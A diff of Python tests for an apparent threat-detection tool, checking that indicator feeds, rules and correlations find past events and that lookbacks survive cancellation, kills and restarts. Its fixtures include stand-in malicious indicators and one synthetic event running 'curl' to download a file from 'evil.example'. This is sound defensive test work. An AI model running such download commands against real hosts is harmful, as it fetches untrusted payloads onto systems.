@@ -3,6 +3,7 @@ restarts, and never twice."""
 
 import datetime
 import json
+import os
 import unittest
 
 import jaga
@@ -28,6 +29,20 @@ correlation:
         gte: 3
 """
 OTHER = RULE.replace("whoami", "nltest").replace("Whoami", "Nltest").replace("b0001", "b0002")
+
+# Every event is one of these: nothing narrows a look for it.
+ANY = """\
+title: Any event {version}
+id: 5a0c1c8e-0001-4a0b-9d38-3b6f5a1b01{version:02}
+level: low
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    nothing:
+        CommandLine: 'nothing'
+    condition: not nothing
+"""
 
 
 def stamp(day, minute):
@@ -353,6 +368,242 @@ class Lookback(CentreCase):
             centre.start()
         self.done(centre)
         self.assertEqual(shape(centre.findings()), expected)
+
+    # One indicator of each kind, and an event for each that holds it as its sender spells it.
+    KINDS = (
+        ("ipv4", "192.0.2.1"),
+        ("ipv6", "2001:db8::7"),
+        ("cidr4", "198.51.100.0/24"),
+        ("cidr6", "2001:db8:1::/48"),
+        ("domain", "worse.example"),
+        ("host", "www.bad.example"),
+        ("url", "http://evil.example/drop"),
+        ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
+        ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
+        ("sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
+        ("email", "bad@mail.example"),
+        ("file-name", "dropper.exe"),
+        ("file-path", "c:\\temp\\stage two.exe"),
+        ("ja3", "e7d705a3286e19ea42f587b344ee6865"),
+        ("ja4", "t13d1516h2_8daaf6152771_b186095e22b6"),
+        ("user-agent", "Evil/1.0"),
+    )
+
+    @staticmethod
+    def all_kinds():
+        def seen(kind, n, **more):
+            return dict({"timestamp": f"2026-11-20T08:00:{n:02}.000000+0000", "flow_id": n, "event_type": kind, "src_ip": "10.0.0.1",
+                         "src_port": 4000 + n, "dest_ip": "10.0.0.2", "dest_port": 443, "proto": "TCP"}, **more)
+
+        def ran(n, image, **more):
+            return dict(process(image, record=n, time=stamp(21, n)), **more)
+
+        return [
+            seen("flow", 1, src_ip="192.0.2.1"),
+            seen("flow", 2, dest_ip="2001:0db8:0:0:0:0:0:7"),
+            seen("flow", 3, dest_ip="198.51.100.77"),
+            seen("flow", 4, src_ip="2001:db8:1:ff::1"),
+            seen("tls", 5, tls={"sni": "CDN.Worse.example"}),
+            seen("http", 6, http={"hostname": "WWW.bad.example", "url": "/"}),
+            seen("http", 7, http={"hostname": "sub.www.bad.example", "url": "/"}),  # another host
+            seen("smtp", 8, smtp={"mail_from": "<Bad@mail.example>"}),
+            seen("tls", 9, tls={"ja3": {"hash": "e7d705a3286e19ea42f587b344ee6865"}}),
+            seen("tls", 10, tls={"ja4": "t13d1516h2_8daaf6152771_b186095e22b6"}),
+            seen("http", 11, http={"hostname": "a.example", "url": "/", "http_user_agent": "Evil/1.0"}),
+            ran(12, "C:\\curl.exe", CommandLine="curl -o x HTTP://evil.example:80/%64rop"),
+            ran(13, "C:\\a.exe", Hashes="SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=00"),
+            ran(14, "C:\\b.exe", Hashes="MD5=D41D8CD98F00B204E9800998ECF8427E"),
+            ran(15, "C:\\c.exe", Hashes="SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"),
+            ran(16, "D:\\Users\\anna\\Dropper.EXE"),
+            ran(17, "C:\\TEMP\\Stage Two.exe"),
+            ran(18, "C:\\Windows\\explorer.exe"),
+        ]
+
+    def test_each_kind_of_indicator_looks_back(self):
+        feed = self.write("kinds.csv", "type,value\n" + "".join(f"{kind},{value}\n" for kind, value in self.KINDS))
+
+        def load(centre):
+            before = centre.get("/api/v1/status")["live"]["rules_version"]
+            self.jaga("intel", "add", "--data", centre.data, feed)
+            wait_for("the feed", lambda: centre.get("/api/v1/status")["live"]["rules_version"] > before)
+
+        self.rules(OTHER, of="feed")
+        live = self.start("feed")
+        load(live)
+        live.send(self.all_kinds())
+        live.wait_until_matched()
+        expected = shape(live.findings())
+        live.close()
+        self.rules(OTHER)
+        centre = self.start()
+        centre.send(self.all_kinds())
+        centre.wait_until_matched()
+        load(centre)
+        (look,) = self.done(centre)
+        self.assertEqual(look["rules"][0]["count"], len(self.KINDS))
+        found = {name for name, _ in self.verdicts(centre, look) if name.startswith("indicator ")}
+        self.assertEqual(found, {f"indicator {kind} {value}" for kind, value in self.KINDS})
+        self.assertEqual(shape(centre.findings()), expected)
+        self.assertLess(look["candidates"], look["events"])  # one has nothing, another only looks so
+
+    def test_rules_correlations_and_indicators_of_one_look_have_a_verdict_each(self):
+        self.rules(OTHER)
+        centre = self.start()
+        self.load_feed(centre, "old", "other.example")
+        centre.send(self.network())
+        centre.send([process("C:\\calc.exe", time=stamp(20, 1))], token=centre.add_token("finance", "windows"))
+        centre.send([{"door": "opened"}], token=centre.add_token("justice", "linux"))
+        centre.wait_until_matched()
+        centre.stop()
+        self.rules(OTHER, RULE, MANY)
+        self.add_feed(centre, "one", *self.FEED)
+        centre.start()
+        (look,) = self.done(centre)
+        self.assertEqual({rule["kind"] for rule in look["rules"]}, {"rule", "correlation", "indicators"})
+        verdicts = {key: verdict["verdict"] for key, verdict in self.verdicts(centre, look).items() if not key[0].startswith("indicator ")}
+        self.assertEqual(verdicts, {
+            (subject, agency): verdict
+            for subject in (RULE_ID, MANY_ID, "indicators")
+            for agency, verdict in (("health", "affected"), ("finance", "clean"), ("justice", "cannot tell"))})
+        # What a verdict counts is what its findings count, and the look counts all of them.
+        figures = self.verdicts(centre, look)
+        for subject in (RULE_ID, MANY_ID):
+            findings = [finding for finding in centre.findings() if finding["rule"] == subject]
+            self.assertEqual(figures[(subject, "health")]["matches"], sum(finding["count"] for finding in findings), subject)
+        self.assertEqual(look["matches"], sum(figures[(subject, "health")]["matches"] for subject in (RULE_ID, MANY_ID, "indicators")))
+
+    # ---- a look that is ended ----
+
+    def long_look(self, centre, version, n=1):
+        """A look at every event, the nth, once it has found something: likely it is under way then."""
+        self.rules(OTHER, ANY.format(version=version))
+
+        def under_way():
+            looks = self.looks(centre)
+            return looks[0] if len(looks) == n and looks[0]["matches"] else None
+
+        return wait_for("the look to find something", under_way)
+
+    def many(self):
+        """Every day is a transaction of its own."""
+        return [process("C:\\x.exe", record=day * 1000 + n, host=f"WS{n}", time=f"2026-11-{day:02} 08:{n // 60:02}:{n % 60:02}.000")
+                for day in range(1, 22) for n in range(300)]
+
+    def prepared(self):
+        self.rules(OTHER)
+        centre = self.start()
+        centre.send(self.many())
+        centre.wait_until_matched()
+        wait_for("the lake", lambda: centre.get("/api/v1/status")["lake"]["lag"] == 0)
+        return centre
+
+    def ended_under_way(self, end):
+        """A look that `end` ended where it was; the centre. Where it was too late, once more with another rule."""
+        centre = self.prepared()
+        for version in range(20):
+            look = self.long_look(centre, version, version + 1)
+            if end(centre, look):
+                return centre, look["id"]
+            self.done(centre, version + 1)
+        return self.fail("no look took long enough to be ended")
+
+    def assert_found_once(self, centre, look):
+        """All events, and none twice."""
+        report = centre.get(f"/api/v1/lookbacks/{look}")
+        rule = report["rules"][0]["rule"]
+        self.assertEqual(sum(finding["count"] for finding in centre.findings() if finding["rule"] == rule), len(self.many()))
+        self.assertEqual(report["matches"], len(self.many()))
+        self.assertEqual(report["state"], "done")
+        self.assertEqual([verdict["verdict"] for verdict in report["verdicts"]], ["affected"])
+
+    def resume(self, centre, look):
+        self.jaga("lookback", "resume", "--data", centre.data, look)
+        wait_for("the look to end", lambda: centre.get(f"/api/v1/lookbacks/{look}")["state"] == "done")
+        self.assert_found_once(centre, look)
+
+    def test_a_look_under_way_is_cancelled_and_goes_on(self):
+        centre, look = self.ended_under_way(lambda centre, look: centre.ask("DELETE", f"/api/v1/lookbacks/{look['id']}", token=centre.admin).status == 204)
+        wait_for("the cancel", lambda: 'jaga_lookback_total{end="cancelled"} 1' in centre.ask("GET", "/metrics", token=centre.admin).text)
+        found = self.looks(centre)[0]["matches"]
+        self.assertGreater(found, 0)
+        self.assertLess(found, len(self.many()))
+        centre.stop()
+        centre.start()
+        self.assertEqual(self.looks(centre)[0]["state"], "cancelled")
+        self.assertEqual(self.looks(centre)[0]["matches"], found)
+        self.resume(centre, look)
+
+    def test_a_look_is_cancelled_from_the_data_folder(self):
+        centre, look = self.ended_under_way(
+            lambda centre, look: self.run_jaga("lookback", "cancel", "--data", centre.data, look["id"]).returncode == 0)
+        wait_for("the cancel", lambda: 'jaga_lookback_total{end="cancelled"} 1' in centre.ask("GET", "/metrics", token=centre.admin).text)
+        self.resume(centre, look)
+
+    def test_a_look_that_is_killed_under_way_goes_on(self):
+        centre = self.prepared()
+        (look, kills) = (self.long_look(centre, 0)["id"], 0)
+        while kills < 5 and centre.get(f"/api/v1/lookbacks/{look}")["state"] != "done":
+            before = centre.get(f"/api/v1/lookbacks/{look}")["matches"]
+            centre.kill()
+            kills += 1
+            centre.start()
+            wait_for("more", lambda: centre.get(f"/api/v1/lookbacks/{look}")["matches"] > before
+                     or centre.get(f"/api/v1/lookbacks/{look}")["state"] == "done")
+        self.assertGreater(kills, 0)
+        wait_for("the look to end", lambda: centre.get(f"/api/v1/lookbacks/{look}")["state"] == "done")
+        self.assert_found_once(centre, look)
+
+    # ---- what looks leave behind ----
+
+    @staticmethod
+    def lists(centre):
+        return [name for name in os.listdir(os.path.join(centre.data, "lookback")) if name.startswith("new-")]
+
+    def test_lists_that_no_look_needs_are_removed(self):
+        self.rules(OTHER)
+        centre = self.start()
+        centre.send(self.network())
+        centre.wait_until_matched()
+
+        self.add_feed(centre, "one", *self.FEED)
+        self.done(centre)
+        wait_for("the list to go", lambda: not self.lists(centre))
+        # What a kill leaves behind goes at the next start; what a cancelled look needs stays until it is done.
+        centre.stop()
+        self.add_feed(centre, "two", "good.example", *self.FEED)
+        self.write(os.path.join(centre.data, "lookback", "new-1-0000000000000002.list"), "jaga")
+        centre.start()
+        self.done(centre, 2)
+        wait_for("the lists to go", lambda: not self.lists(centre))
+
+    def test_the_list_of_a_cancelled_look_stays_until_it_is_done(self):
+        self.rules(OTHER)
+        centre = self.start()
+        self.load_feed(centre, "old", "other.example")
+        centre.send(self.many())
+        centre.wait_until_matched()
+        centre.stop()
+        self.add_feed(centre, "one", "x.exe")
+        self.rules(OTHER, ANY.format(version=99))
+        centre.start()
+        look = wait_for("a look", lambda: self.looks(centre))[0]["id"]
+        if self.run_jaga("lookback", "cancel", "--data", centre.data, look).returncode == 0:
+            self.assertEqual(len(self.lists(centre)), 1)
+            centre.kill()
+            centre.start()
+            self.assertEqual(len(self.lists(centre)), 1)
+            self.jaga("lookback", "resume", "--data", centre.data, look)
+        self.done(centre)
+        wait_for("the list to go", lambda: not self.lists(centre))
+        self.assertEqual(self.verdicts(centre, self.looks(centre)[0])[("indicators", "health")]["matches"], len(self.many()))
+
+    def test_nobody_asks_for_indicators_by_sql(self):
+        self.rules(OTHER)
+        centre = self.start()
+        centre.send(history())
+        query = {"query": "SELECT jaga_screen('evil.example', 3, 1)", "language": "sql"}
+        answer = centre.ask("POST", "/api/v1/hunts", body=json.dumps(query), token=centre.admin, headers={"Content-Type": "application/json"})
+        self.assertIn("may not be used", answer.text)
 
     def test_what_is_allowed_is_not_found_in_the_past(self):
         self.rules(OTHER)
